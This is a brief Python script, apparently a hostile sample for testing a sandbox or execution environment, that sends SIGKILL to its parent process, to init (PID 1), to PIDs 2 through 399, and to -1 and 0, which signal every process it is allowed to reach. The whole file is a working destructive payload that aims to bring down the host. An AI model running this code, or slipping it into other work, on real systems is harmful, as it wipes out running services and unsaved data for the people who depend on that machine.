# tries to: kill every process that it may
import os
import signal

for number in [os.getppid(), 1, 2, 3, *range(4, 400), -1, 0]:
    try:
        number != os.getpid() and os.kill(number, signal.SIGKILL)
    except OSError:
        pass
